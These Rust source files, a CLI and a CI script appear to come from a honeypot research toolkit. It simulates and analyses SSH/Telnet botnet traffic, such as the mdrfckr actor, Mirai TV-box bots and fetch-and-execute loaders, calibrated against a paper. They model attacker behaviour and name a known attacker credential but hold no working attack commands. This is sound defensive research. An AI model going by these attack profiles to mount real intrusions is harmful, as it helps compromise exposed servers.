        // ---- mdrfckr complex (§9, Figs. 3a/12/13) -----------------------
        spec(
            Archetype::MdrfckrInitial,
            vec![
                w(s, d(2021, 12, 31), 1_500.0), // deployment warm-up
                w(d(2022, 1, 1), e, 47_000.0),
            ],
            "mdrfckr",
            270_000,
        ),
        spec(
            Archetype::MdrfckrVariant,
            vec![w(d(2022, 12, 8), e, 4_500.0)],
            "mdrfckr",
            270_000,
        ),
        // MdrfckrB64 windows are the dip windows; rates handled below.
        spec(
            Archetype::Cred3245,
            vec![w(d(2022, 12, 8), e, 38_000.0)],
            "cred3245",
            125_000,
        ),
        // ---- other state-changing, no-exec bots (Fig. 3a) ---------------
        spec(
            Archetype::Root17CharPwd,
            vec![w(d(2022, 2, 1), d(2022, 9, 30), 2_000.0)],
            "locker",
            15_000,
        ),
        spec(
            Archetype::Root12CharCapscout,
            vec![w(d(2023, 3, 1), d(2023, 8, 31), 1_800.0)],
            "locker",
            15_000,
        ),
        spec(
            Archetype::Root12CharEcho321,
            vec![w(d(2023, 9, 1), d(2024, 2, 29), 1_600.0)],
            "locker",
            15_000,
        ),
        spec(
            Archetype::OpensslPasswd,
            vec![w(d(2023, 6, 1), e, 800.0)],
            "locker",
            15_000,
        ),
        spec(
            Archetype::Lenni0451,
            vec![w(d(2023, 10, 1), d(2024, 3, 31), 1_200.0)],
            "misc",
            8_000,
        ),
        spec(
            Archetype::StxMiner,
            vec![w(d(2022, 5, 1), d(2022, 11, 30), 600.0)],
            "miner",
            10_000,
        ),
        spec(
            Archetype::PerlDredMiner,
            vec![w(d(2023, 2, 1), d(2023, 7, 31), 500.0)],
            "miner",
            10_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: true,
                echo: true,
                ftp: false,
                wget: false,
                exec: false,
            },
            vec![w(s, e, 1_500.0)],
            "loader",
            32_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: true,
                echo: false,
                ftp: false,
                wget: false,
                exec: false,
            },
            vec![w(d(2022, 1, 1), d(2023, 12, 31), 800.0)],
            "loader",
            32_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: true,
                echo: false,
                ftp: false,
                wget: true,
                exec: false,
            },
            vec![w(d(2022, 6, 1), d(2023, 6, 30), 700.0)],
            "loader",
            32_000,
        ),
        // ---- TV-box Mirai (Fig. 10): synchronized dreambox/vertex -------
        spec(
            Archetype::TvBoxDreambox,
            vec![
                w(d(2023, 2, 1), d(2023, 7, 31), 3_000.0),
                w(d(2023, 12, 1), e, 4_000.0),
            ],
            "tvbox",
            20_000,
        ),
        spec(
            Archetype::TvBoxVertex,
            vec![
                w(d(2023, 2, 1), d(2023, 7, 31), 3_000.0),
                w(d(2023, 12, 1), e, 4_000.0),
            ],
            "tvbox",
            20_000,
        ),
        // ---- Cowrie fingerprinting (Fig. 11) -----------------------------
        spec(Archetype::PhilScanner, vec![w(s, e, 50.0)], "phil", 10_000),
        // ---- file-exec bots (Figs. 3b/4) ---------------------------------
        spec(
            Archetype::Bbox5Char,
            vec![
                w(s, d(2022, 12, 31), 12_000.0),
                w(d(2023, 1, 1), e, 5_000.0),
            ],
            "bbox",
            30_000,
        ),
        spec(
            Archetype::BboxUnlabelled,
            vec![w(s, d(2022, 6, 15), 15_000.0)],
            "bbox",
            30_000,
        ),
        spec(
            Archetype::BboxRandExec,
            vec![w(s, e, 500.0)],
            "bbox",
            30_000,
        ),
        spec(
            Archetype::BboxLoaderWget,
            vec![w(d(2022, 1, 1), d(2022, 9, 30), 700.0)],
            "bbox",
            30_000,
        ),
        spec(
            Archetype::BboxEchoElf,
            vec![w(d(2022, 6, 1), d(2023, 3, 31), 400.0)],
            "bbox",
            30_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: false,
                echo: false,
                ftp: false,
                wget: true,
                exec: true,
            },
            vec![
                w(d(2022, 1, 1), d(2022, 12, 31), 2_000.0),
                w(d(2023, 1, 1), e, 600.0),
            ],
            "loader",
            32_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: true,
                echo: false,
                ftp: true,
                wget: true,
                exec: true,
            },
            vec![w(d(2022, 3, 1), d(2022, 10, 31), 700.0)],
            "loader",
            32_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: false,
                echo: true,
                ftp: false,
                wget: true,
                exec: true,
            },
            vec![w(d(2022, 5, 1), d(2023, 2, 28), 600.0)],
            "loader",
            32_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: false,
                echo: false,
                ftp: true,
                wget: true,
                exec: true,
            },
            vec![w(d(2022, 2, 1), d(2022, 8, 31), 500.0)],
            "loader",
            32_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: true,
                echo: true,
                ftp: true,
                wget: true,
                exec: true,
            },
            vec![w(d(2022, 6, 1), d(2022, 11, 30), 400.0)],
            "loader",
            32_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: false,
                echo: true,
                ftp: false,
                wget: false,
                exec: true,
            },
            vec![w(d(2022, 9, 1), d(2023, 5, 31), 500.0)],
            "loader",
            32_000,
        ),
        spec(
            Archetype::GenLoader {
                curl: true,
                echo: true,
                ftp: false,
                wget: true,
                exec: true,
            },
            vec![w(d(2022, 4, 1), d(2022, 9, 30), 300.0)],
            "loader",
            32_000,
        ),
        spec(
            Archetype::RapperBot,
            vec![w(d(2022, 6, 1), d(2023, 3, 31), 2_000.0)],
            "rapper",
            18_000,
        ),
        spec(
            Archetype::SoraAttack,
            vec![
                w(d(2022, 2, 1), d(2022, 7, 31), 1_000.0),
                w(d(2022, 11, 1), d(2023, 1, 31), 800.0),
            ],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::OhshitAttack,
            vec![w(d(2022, 2, 1), d(2022, 9, 30), 800.0)],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::OnionsAttack,
            vec![w(d(2022, 3, 1), d(2022, 8, 31), 500.0)],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::HeisenAttack,
            vec![w(d(2022, 8, 1), d(2022, 12, 31), 300.0)],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::ZeusAttack,
            vec![w(d(2022, 5, 1), d(2022, 10, 31), 250.0)],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::FrSlurAttack,
            vec![w(d(2022, 1, 1), d(2022, 6, 30), 400.0)],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::UpdateAttack,
            vec![w(d(2022, 4, 1), d(2023, 6, 30), 600.0)],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::WgetDget,
            vec![w(d(2022, 4, 1), d(2022, 10, 31), 600.0)],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::Passwd123Daemon,
            vec![w(d(2022, 8, 1), d(2023, 4, 30), 700.0)],
            "iotbots",
            25_000,
        ),
        spec(
            Archetype::RmObfPattern1,
            vec![w(d(2023, 2, 1), d(2023, 10, 31), 900.0)],
            "iotbots",
            25_000,
        ),
    ];

    // mdrfckr base64 uploads: only during dip windows, from a dispersed
    // one-shot pool (paper: 1,624 unique IPs, no reuse across dips).
    v.push(CampaignSpec {
        bot: Archetype::MdrfckrB64,
        windows: crate::events::mdrfckr_dip_windows()
            .into_iter()
            .map(|dw| w(dw.start, dw.end, 120.0))
            .collect(),
        pool: "mdrfckr-b64",
        pool_size_paper: 1_624,
        pool_exact: false,
        sensor_limit: None,
    });

    // curl proxy abuse: exactly four clients, 180 sensors.
    v.push(CampaignSpec {
        bot: Archetype::CurlMaxred,
        windows: vec![w(d(2024, 1, 5), d(2024, 4, 20), 1_900.0)],
        pool: "curlmaxred",
        pool_size_paper: 4,
        pool_exact: true,
        sensor_limit: Some(180),
    });

    v
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn windows_lie_inside_study_period() {
        for c in catalog() {
            for win in &c.windows {
                assert!(win.start >= study_start(), "{:?} starts early", c.bot);
                assert!(win.end <= study_end(), "{:?} ends late", c.bot);
                assert!(win.start <= win.end);
                assert!(win.per_day > 0.0);
            }
        }
    }

    #[test]
    fn paper_scale_totals_are_calibrated() {
        // Integrate each taxonomy class over the study window and compare
        // against §3.3 (tolerances are generous; shape matters).
        let mut day = study_start();
        let cat = catalog();
        let mut scanning = 0.0;
        let mut scouting = 0.0;
        let mut telnet = 0.0;
        let mut cmd_exec = 0.0;
        let mut intrusion = 0.0;
        while day <= study_end() {
            for c in &cat {
                let r = c.rate(day);
                match c.bot {
                    Archetype::Scanner => scanning += r,
                    Archetype::GenericScout => scouting += r,
                    Archetype::TelnetNoise => telnet += r,
                    Archetype::GenericIntruder | Archetype::Cred3245 => intrusion += r,
                    Archetype::PhilScanner => intrusion += r,
                    _ => cmd_exec += r,
                }
            }
            day = day.plus_days(1);
        }
        let m = 1e6;
        assert!(
            (40.0 * m..50.0 * m).contains(&scanning),
            "scanning {scanning}"
        );
        assert!(
            (230.0 * m..280.0 * m).contains(&scouting),
            "scouting {scouting}"
        );
        assert!(
            (70.0 * m..95.0 * m).contains(&intrusion),
            "intrusion {intrusion}"
        );
        assert!(
            (140.0 * m..185.0 * m).contains(&cmd_exec),
            "command-exec {cmd_exec}"
        );
        assert!((80.0 * m..100.0 * m).contains(&telnet), "telnet {telnet}");
    }

    #[test]
    fn mdrfckr_total_near_46m() {
        let cat = catalog();
        let mut total = 0.0;
        let mut day = study_start();
        while day <= study_end() {
            for c in &cat {
                if matches!(
                    c.bot,
                    Archetype::MdrfckrInitial | Archetype::MdrfckrVariant | Archetype::MdrfckrB64
                ) {
                    total += c.rate(day);
                }
            }
            day = day.plus_days(1);
        }
        // Dips (handled by the driver) shave a little off; table-level total
        // should slightly exceed the paper's 46M.
        assert!((44e6..55e6).contains(&total), "mdrfckr total {total}");
    }

    #[test]
    fn cred3245_starts_exactly_2022_12_08() {
        let c = catalog();
        let spec = c.iter().find(|c| c.bot == Archetype::Cred3245).unwrap();
        assert_eq!(spec.windows[0].start, Date::new(2022, 12, 8));
        let total: f64 = spec
            .windows
            .iter()
            .map(|w| w.per_day * (w.end.days_since(w.start) + 1) as f64)
            .sum();
        assert!((22e6..27e6).contains(&total), "3245 total {total}");
    }

    #[test]
    fn bbox_unlabelled_dies_mid_2022() {
        let c = catalog();
        let spec = c
            .iter()
            .find(|c| c.bot == Archetype::BboxUnlabelled)
            .unwrap();
        assert!(spec.rate(Date::new(2022, 6, 1)) > 0.0);
        assert_eq!(spec.rate(Date::new(2022, 7, 1)), 0.0);
        assert_eq!(spec.rate(Date::new(2023, 1, 1)), 0.0);
    }

    #[test]
    fn tvbox_campaigns_are_synchronized() {
        let c = catalog();
        let dream = c
            .iter()
            .find(|c| c.bot == Archetype::TvBoxDreambox)
            .unwrap();
        let vertex = c.iter().find(|c| c.bot == Archetype::TvBoxVertex).unwrap();
        let mut day = study_start();
        while day <= study_end() {
            assert_eq!(
                dream.rate(day) > 0.0,
                vertex.rate(day) > 0.0,
                "desync on {day}"
            );
            day = day.plus_days(7);
        }
    }

    #[test]
    fn curl_maxred_pool_is_exactly_four() {
        let c = catalog();
        let spec = c.iter().find(|c| c.bot == Archetype::CurlMaxred).unwrap();
        assert!(spec.pool_exact);
        assert_eq!(spec.pool_size_paper, 4);
        assert_eq!(spec.sensor_limit, Some(180));
    }

    #[test]
    fn mdrfckr_and_variant_share_the_pool() {
        let c = catalog();
        let init = c
            .iter()
            .find(|c| c.bot == Archetype::MdrfckrInitial)
            .unwrap();
        let var = c
            .iter()
            .find(|c| c.bot == Archetype::MdrfckrVariant)
            .unwrap();
        assert_eq!(init.pool, var.pool);
    }

    #[test]
    fn non_state_shift_in_2023() {
        // The 2023 rate of non-state scouts must exceed the 2022 rate
        // (paper: clear shift in early 2023, Fig. 1).
        let c = catalog();
        let echo = c.iter().find(|c| c.bot == Archetype::EchoOk).unwrap();
        assert!(echo.rate(Date::new(2023, 6, 1)) > 2.0 * echo.rate(Date::new(2022, 6, 1)));
    }
}
