//! The honeylab command-line tool.
//!
//! ```text
//! honeylab generate --scale 4000 --seed 42 --out honeynet.json
//!     Generate a synthetic honeynet dataset and write it as a
//!     Cowrie-format JSON-lines event log.
//!
//! honeylab generate --scale 500 --out store.hsdb --out-format sessiondb
//!     Same dataset, spilled straight into a sharded columnar sessiondb
//!     store — sessions stream to disk during generation, so memory stays
//!     bounded at any scale.
//!
//! honeylab analyze honeynet.json
//! honeylab analyze store.hsdb
//!     Run the paper's analysis pipeline. The input format is
//!     auto-detected (sessiondb by magic bytes / store manifest, anything
//!     else parses as a Cowrie JSON log); sessiondb input is analysed in
//!     streaming passes without materializing the dataset.
//!
//! honeylab classify
//!     Read command lines from stdin, print the Table 1 category of each.
//!
//! honeylab table1
//!     Print the classifier's rule set (label + pattern).
//! ```

use honeylab::botnet::{generate_dataset_into, FaultProfile};
use honeylab::core::{logins, report, storage_analysis as sa};
use honeylab::honeypot::{from_cowrie_log_lossy, to_cowrie_log};
use honeylab::prelude::*;
use honeylab::sessiondb::{is_sessiondb_path, Store, StoreWriter};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::borrow::Borrow;
use std::io::{BufRead, Write};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let code = match args.first().map(String::as_str) {
        Some("generate") => cmd_generate(&args[1..]),
        Some("analyze") => cmd_analyze(&args[1..]),
        Some("classify") => cmd_classify(),
        Some("table1") => cmd_table1(),
        _ => {
            eprintln!(
                "usage: honeylab <generate|analyze|classify|table1> [options]\n\
                 \n\
                 generate --scale N --seed S --out FILE   synthesize a honeynet dataset\n\
                 \x20        [--out-format cowrie|sessiondb] cowrie: JSON-lines log (default);\n\
                 \x20                                        sessiondb: sharded columnar store, bounded memory\n\
                 \x20        [--downtime F]                  inject sensor outages (fraction of sensor-time)\n\
                 \x20        [--flush-fail F]                inject collector flush failures (per-write rate)\n\
                 \x20        [--corrupt F]                   corrupt the emitted log (per-line byte-flip rate; cowrie only)\n\
                 analyze PATH                             run the paper's analysis on a Cowrie log\n\
                 \x20                                        or sessiondb store (format auto-detected)\n\
                 classify                                 classify stdin command lines (Table 1)\n\
                 table1                                   print the classifier rule set"
            );
            2
        }
    };
    std::process::exit(code);
}

fn flag(args: &[String], name: &str) -> Option<String> {
    args.iter().position(|a| a == name).and_then(|i| args.get(i + 1)).cloned()
}

fn cmd_generate(args: &[String]) -> i32 {
    let scale: u64 = flag(args, "--scale").and_then(|s| s.parse().ok()).unwrap_or(8_000);
    let seed: u64 = flag(args, "--seed").and_then(|s| s.parse().ok()).unwrap_or(42);
    let format = flag(args, "--out-format").unwrap_or_else(|| "cowrie".to_string());
    let out = flag(args, "--out").unwrap_or_else(|| match format.as_str() {
        "sessiondb" => "honeynet.hsdb".to_string(),
        _ => "honeynet.json".to_string(),
    });
    let downtime: f64 = flag(args, "--downtime").and_then(|s| s.parse().ok()).unwrap_or(0.0);
    let flush_fail: f64 = flag(args, "--flush-fail").and_then(|s| s.parse().ok()).unwrap_or(0.0);
    let corrupt: f64 = flag(args, "--corrupt").and_then(|s| s.parse().ok()).unwrap_or(0.0);
    let mut cfg = DriverConfig::default_scale(seed);
    cfg.session_scale = scale;
    if downtime > 0.0 {
        let mut f = FaultProfile::degraded();
        f.sensor_downtime = downtime;
        f.flush_failure_rate = 0.0;
        cfg.faults = f;
    }
    if flush_fail > 0.0 {
        cfg.faults.flush_failure_rate = flush_fail;
        cfg.faults.queue_capacity = Some(64);
    }
    eprintln!("generating 33 months at 1:{scale} (seed {seed})…");
    match format.as_str() {
        "cowrie" => {
            let ds = generate_dataset(&cfg);
            report_degraded(&ds.faults, ds.sessions.len() as u64);
            eprintln!("{} sessions; writing Cowrie-format log to {out}…", ds.sessions.len());
            let mut log = to_cowrie_log(&ds.sessions);
            if corrupt > 0.0 {
                let (l, n) = corrupt_log(&log, corrupt, seed);
                eprintln!("corrupted {n} of {} lines (--corrupt {corrupt})", l.lines().count());
                log = l;
            }
            match std::fs::File::create(&out).and_then(|mut f| f.write_all(log.as_bytes())) {
                Ok(()) => {
                    eprintln!("wrote {} bytes ({} lines)", log.len(), log.lines().count());
                    0
                }
                Err(e) => {
                    eprintln!("error writing {out}: {e}");
                    1
                }
            }
        }
        "sessiondb" => {
            if corrupt > 0.0 {
                eprintln!("warning: --corrupt applies to the cowrie format only, ignoring");
            }
            // Sessions spill to the store through the collector as they
            // are generated; nothing is ever materialized in memory.
            let writer = match StoreWriter::create(&out) {
                Ok(w) => w,
                Err(e) => {
                    eprintln!("error creating store {out}: {e}");
                    return 1;
                }
            };
            let ds = match generate_dataset_into(&cfg, Box::new(writer)) {
                Ok(ds) => ds,
                Err(e) => {
                    eprintln!("error generating into {out}: {e}");
                    return 1;
                }
            };
            report_degraded(&ds.faults, ds.faults.ingest.accepted);
            match Store::open(&out) {
                Ok(store) => {
                    let s = store.summary();
                    eprintln!(
                        "wrote sessiondb store {out}: {} sessions in {} segments",
                        s.rows, s.segments
                    );
                    0
                }
                Err(e) => {
                    eprintln!("error reopening store {out}: {e}");
                    1
                }
            }
        }
        other => {
            eprintln!("unknown --out-format '{other}' (expected cowrie or sessiondb)");
            2
        }
    }
}

fn report_degraded(f: &honeylab::botnet::FaultReport, recorded: u64) {
    if f.connection_failures + f.ingest.dropped + f.ingest.quarantined > 0 {
        eprintln!(
            "degraded run: {} attempted = {} recorded + {} connection failures + {} dropped + {} quarantined",
            f.attempted, recorded, f.connection_failures, f.ingest.dropped, f.ingest.quarantined
        );
    }
}

/// Seeded per-line corruption: with probability `rate` a line gets one
/// byte overwritten at a random position — the kind of damage a crashed
/// logger or a torn sector leaves behind.
fn corrupt_log(log: &str, rate: f64, seed: u64) -> (String, usize) {
    let mut rng = StdRng::seed_from_u64(seed ^ 0xc0_44_u64);
    let mut corrupted = 0usize;
    let lines: Vec<String> = log
        .lines()
        .map(|line| {
            if !line.is_empty() && rng.random::<f64>() < rate {
                corrupted += 1;
                let mut bytes = line.as_bytes().to_vec();
                let i = rng.random_range(0..bytes.len());
                bytes[i] = b'#';
                String::from_utf8_lossy(&bytes).into_owned()
            } else {
                line.to_string()
            }
        })
        .collect();
    (lines.join("\n") + "\n", corrupted)
}

fn cmd_analyze(args: &[String]) -> i32 {
    let Some(path) = args.first() else {
        eprintln!("usage: honeylab analyze <cowrie-log.json | store.hsdb>");
        return 2;
    };
    if is_sessiondb_path(path) {
        analyze_sessiondb(path)
    } else {
        analyze_cowrie(path)
    }
}

fn analyze_sessiondb(path: &str) -> i32 {
    let store = match Store::open(path) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("error opening store {path}: {e}");
            return 1;
        }
    };
    let summary = store.summary();
    eprintln!("sessiondb store: {} sessions in {} segments", summary.rows, summary.segments);
    // One parallel pass decodes and CRC-checks every block up front, so
    // the streaming report passes below can trust the store.
    let workers = std::thread::available_parallelism().map(|n| n.get()).unwrap_or(4);
    match store.par_scan(workers, |acc: &mut u64, batch| *acc += batch.len() as u64, |a, b| a + b) {
        Ok(validated) => eprintln!("validated {validated} sessions"),
        Err(e) => {
            eprintln!("error scanning {path}: {e}");
            return 1;
        }
    }
    // Each report is a single pass over a fresh scan; memory stays bounded
    // by one decoded segment regardless of store size.
    run_reports(|| {
        store.scan().records().map_while(|r| match r {
            Ok(rec) => Some(rec),
            Err(e) => {
                eprintln!("warning: scan failed mid-report (store changed?): {e}");
                None
            }
        })
    });
    0
}

fn analyze_cowrie(path: &str) -> i32 {
    let log = match std::fs::read_to_string(path) {
        Ok(s) => s,
        Err(e) => {
            eprintln!("error reading {path}: {e}");
            return 1;
        }
    };
    // Lossy import: a real multi-year Cowrie deployment accumulates torn
    // writes and crash-truncated files; recover every parseable session
    // and report what was skipped rather than aborting on line one.
    let import = from_cowrie_log_lossy(&log);
    for err in import.errors.iter().take(5) {
        eprintln!("warning: line {}: {} ({})", err.line, err.message, err.snippet);
    }
    if import.errors.len() > 5 {
        eprintln!("warning: … {} more unparseable lines", import.errors.len() - 5);
    }
    if !import.errors.is_empty() {
        eprintln!(
            "recovered {} sessions from {} lines ({} unparseable)",
            import.sessions.len(),
            import.lines_total,
            import.errors.len()
        );
    }
    let sessions = import.sessions;
    if sessions.is_empty() && !import.errors.is_empty() {
        eprintln!("error parsing {path}: no sessions recoverable");
        return 1;
    }
    eprintln!("parsed {} sessions", sessions.len());
    run_reports(|| sessions.iter());
    0
}

/// The paper's analysis pipeline over any session source.
///
/// `fresh` yields a new single-use session stream per call; each report
/// below is one pass over one such stream. A slice-backed source hands out
/// `sessions.iter()` repeatedly for free, while a sessiondb source opens a
/// fresh out-of-core scan per pass — either way no report ever needs the
/// whole dataset in memory at once.
fn run_reports<F, I>(fresh: F)
where
    F: Fn() -> I,
    I: IntoIterator,
    I::Item: Borrow<SessionRecord>,
{
    // §3.3 taxonomy.
    let stats = TaxonomyStats::compute(fresh());
    print!("{}", report::render_dataset_stats(&stats, 1));

    // Table 1 classification.
    let cl = Classifier::table1();
    let coverage = report::classification_coverage(fresh(), &cl);
    println!("\nTable 1 coverage: {:.2}% of command sessions classified", coverage * 100.0);
    let cats = report::category_counts(fresh(), &cl);
    println!("\ntop command categories:");
    for (label, n) in cats.iter().take(15) {
        println!("  {label:<26} {n}");
    }

    // Passwords.
    let top = logins::top_passwords(fresh(), 10);
    println!("\ntop accepted passwords:");
    for (i, pw) in top.passwords.iter().enumerate() {
        let total: u64 = top.by_month.values().map(|v| v[i]).sum();
        println!("  #{:<2} {pw:<24} {total}", i + 1);
    }

    // Cowrie-default fingerprinting.
    let probes = logins::cowrie_default_probes(fresh());
    let phil: u64 = probes.phil_success.values().sum();
    if phil > 0 {
        println!(
            "\nhoneypot fingerprinting: {phil} 'phil' logins from {} IPs ({:.0}% commandless) — \
             attackers are probing for Cowrie defaults",
            probes.phil_unique_ips,
            probes.phil_no_command_frac * 100.0
        );
    }

    // Downloads.
    let events = sa::download_events(fresh());
    if !events.is_empty() {
        let st = sa::storage_stats(&events, &abusedb::AbuseDb::default());
        println!(
            "\ndownloads: {} sessions, {} client IPs, {} storage hosts ({:.0}% host != client)",
            st.download_sessions,
            st.unique_download_clients,
            st.unique_storage_ips,
            st.different_ip_frac * 100.0
        );
    }

    // mdrfckr check.
    let tl = honeylab::core::mdrfckr::timeline(fresh());
    let total: u64 = tl.daily.values().map(|(n, _)| n).sum();
    if total > 0 {
        println!(
            "\nmdrfckr activity: {total} sessions over {} days — see the paper's §9 for the actor profile",
            tl.daily.len()
        );
    }
}

fn cmd_classify() -> i32 {
    let cl = Classifier::table1();
    let stdin = std::io::stdin();
    for line in stdin.lock().lines() {
        let Ok(line) = line else { break };
        if line.trim().is_empty() {
            continue;
        }
        println!("{:<26} {line}", cl.classify(&line));
    }
    0
}

fn cmd_table1() -> i32 {
    println!("{:<26} pattern", "label");
    for (label, pattern) in honeylab::core::classify::TABLE1_RULES {
        println!("{label:<26} {pattern}");
    }
    println!("{:<26} (fallback)", honeylab::core::UNKNOWN_LABEL);
    0
}
