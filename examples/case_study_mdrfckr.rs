//! The §9 case study end-to-end: rediscovers the `mdrfckr` actor's dips,
//! its 2022-12-08 behavioural fork, the `3245gs5662d34` correlation, the
//! base64 payloads uploaded during dips, and the Killnet/C2 overlaps.
//!
//! ```sh
//! cargo run --release --example case_study_mdrfckr
//! ```

use honeylab::core::mdrfckr;
use honeylab::prelude::*;

fn main() {
    let mut cfg = DriverConfig::default_scale(42);
    cfg.session_scale = 2_000;
    cfg.ip_scale = 60;
    eprintln!("generating dataset (1:{})…", cfg.session_scale);
    let ds = generate_dataset(&cfg);

    // Fig. 12: daily sessions / unique IPs.
    let tl = mdrfckr::timeline(&ds.sessions);
    let days = tl.daily.len();
    let total: u64 = tl.daily.values().map(|(n, _)| n).sum();
    println!("== Fig 12: mdrfckr timeline ==");
    println!("active days: {days}, total sessions: {total}");
    let mut sample: Vec<_> = tl.daily.iter().collect();
    sample.sort_by_key(|(d, _)| **d);
    for (d, (n, ips)) in sample.iter().step_by(90) {
        println!("  {d}  sessions={n:<6} unique_ips={ips}");
    }

    // Dips vs. the documented event windows (§10).
    let dips = mdrfckr::detect_dips(&tl, 0.12);
    let documented: Vec<_> = botnet::mdrfckr_dip_windows()
        .into_iter()
        .map(|w| (w.start, w.end, w.event.to_string()))
        .collect();
    let correlation = mdrfckr::correlate_events(&dips, &documented);
    println!();
    print!("{}", correlation.render());
    println!(
        "rediscovered {}/{} documented windows",
        correlation.hits(),
        documented.len()
    );

    // Fig. 13: initial vs variant vs 3245gs5662d34.
    let vs = mdrfckr::variant_series(&ds.sessions);
    println!("\n== Fig 13: monthly initial / variant / 3245gs5662d34 ==");
    for (m, [init, var, cred]) in &vs.monthly {
        if *init + *var + *cred > 0 {
            println!("  {m}  initial={init:<6} variant={var:<5} cred3245={cred}");
        }
    }
    let overlap = mdrfckr::cred_overlap_frac(&ds.sessions);
    println!(
        "mdrfckr ∩ 3245gs5662d34 client-IP overlap: {:.1}% (paper: 99.4%)",
        overlap * 100.0
    );

    // Base64 payloads during dips.
    let b64 = mdrfckr::b64_analysis(&ds.sessions, &dips);
    println!("\n== base64 uploads during dips ==");
    println!(
        "sessions: {}, unique uploader IPs: {}",
        b64.sessions, b64.unique_uploader_ips
    );
    println!("no IP reuse across dips: {}", b64.no_ip_reuse_across_dips);
    for (kind, n) in &b64.by_payload {
        println!("  {kind:?}: {n}");
    }
    println!("C2 IPs named by cleanup scripts: {:?}", b64.c2_ips);

    // External correlations.
    let killnet = mdrfckr::killnet_overlap(&ds.sessions, &ds.killnet);
    println!("\nKillnet blocklist overlap: {killnet} IPs (paper: 988 at full scale)");
    let c2_known = b64
        .c2_ips
        .iter()
        .filter(|ip| ds.c2_list.contains(**ip))
        .count();
    println!(
        "C2 IPs present in the C2 feed: {c2_known}/{}",
        b64.c2_ips.len()
    );
    let sensors = mdrfckr::compromised_sensor_count(&ds.sessions);
    println!("sensors with the planted key: {sensors}/{}", ds.fleet.len());
}
