#!/usr/bin/env bash
# Tier-1 gate: everything that must stay green on every commit.
# Run from the repository root: ./scripts/tier1.sh
set -euo pipefail
cd "$(dirname "$0")/.."

echo "== tier1: rustfmt =="
cargo fmt --all --check

echo "== tier1: release build =="
cargo build --release

echo "== tier1: tests =="
cargo test -q --workspace

echo "== tier1: clippy (deny warnings) =="
cargo clippy --all-targets --workspace -- -D warnings

echo "== tier1: cluster bench smoke (equivalence gate, tiny corpus) =="
cargo bench -p honeylab-bench --bench cluster -- --smoke

echo "== tier1: sessiondb smoke (generate -> analyze) =="
smoke="$(mktemp -d)/smoke.hsdb"
trap 'rm -rf "$(dirname "$smoke")"' EXIT
./target/release/honeylab generate --scale 60000 --seed 5 \
    --out-format sessiondb --out "$smoke"
./target/release/honeylab analyze "$smoke" > /dev/null

echo "== tier1: OK =="
