//! Hash-label feeds and the aggregate abuse database.

use hutil::rng::SeedTree;
use rand::Rng;
use std::collections::{HashMap, HashSet};

/// Malware family labels used by the paper (§6).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum MalwareFamily {
    /// Generic "Malicious" verdict (virus/trojan, no family attribution).
    Malicious,
    /// Mirai and its descendants.
    Mirai,
    /// Dofloo / AESDDoS.
    Dofloo,
    /// Gafgyt / Bashlite.
    Gafgyt,
    /// Cryptocurrency miners.
    CoinMiner,
    /// XorDDoS Linux trojan.
    XorDdos,
}

impl MalwareFamily {
    /// Figure-friendly label.
    pub fn label(self) -> &'static str {
        match self {
            MalwareFamily::Malicious => "Malicious",
            MalwareFamily::Mirai => "Mirai",
            MalwareFamily::Dofloo => "Dofloo",
            MalwareFamily::Gafgyt => "Gafgyt",
            MalwareFamily::CoinMiner => "CoinMiner",
            MalwareFamily::XorDdos => "XorDDoS",
        }
    }
}

impl std::fmt::Display for MalwareFamily {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

/// The four services the paper consults (§3.4).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FeedName {
    /// abuse.ch — open threat-intel platform.
    AbuseCh,
    /// Team Cymru — reputation/blocklists.
    TeamCymru,
    /// VirusTotal — multi-engine verdicts.
    VirusTotal,
    /// ArmstrongTechs IOC repository.
    ArmstrongTechs,
}

impl FeedName {
    /// All feeds.
    pub const ALL: [FeedName; 4] = [
        FeedName::AbuseCh,
        FeedName::TeamCymru,
        FeedName::VirusTotal,
        FeedName::ArmstrongTechs,
    ];

    /// Display name.
    pub fn label(self) -> &'static str {
        match self {
            FeedName::AbuseCh => "abuse.ch",
            FeedName::TeamCymru => "Team Cymru",
            FeedName::VirusTotal => "VirusTotal",
            FeedName::ArmstrongTechs => "ArmstrongTechs",
        }
    }
}

/// How much of the ground truth each feed sees.
#[derive(Debug, Clone)]
pub struct CoverageConfig {
    /// Per-feed probability that a hash is present at all.
    pub hash_coverage: [(FeedName, f64); 4],
    /// Probability that a present entry carries only the generic
    /// `Malicious` label instead of the true family.
    pub generic_label_prob: f64,
    /// Probability that a malware-storage IP has been reported (paper: 56 %).
    pub ip_report_prob: f64,
}

impl CoverageConfig {
    /// Paper-calibrated coverage: the union of feeds labels ≈4–5 % of
    /// hashes, VirusTotal being the broadest.
    pub fn paper_defaults() -> Self {
        Self {
            hash_coverage: [
                (FeedName::AbuseCh, 0.012),
                (FeedName::TeamCymru, 0.008),
                (FeedName::VirusTotal, 0.022),
                (FeedName::ArmstrongTechs, 0.005),
            ],
            generic_label_prob: 0.35,
            ip_report_prob: 0.56,
        }
    }
}

/// The aggregate abuse database the analysis queries.
#[derive(Debug, Clone, Default)]
pub struct AbuseDb {
    feeds: HashMap<FeedName, HashMap<String, MalwareFamily>>,
    reported_ips: HashSet<netsim::Ipv4Addr>,
}

impl AbuseDb {
    /// Builds the database by sampling `truth` (hash → true family) with
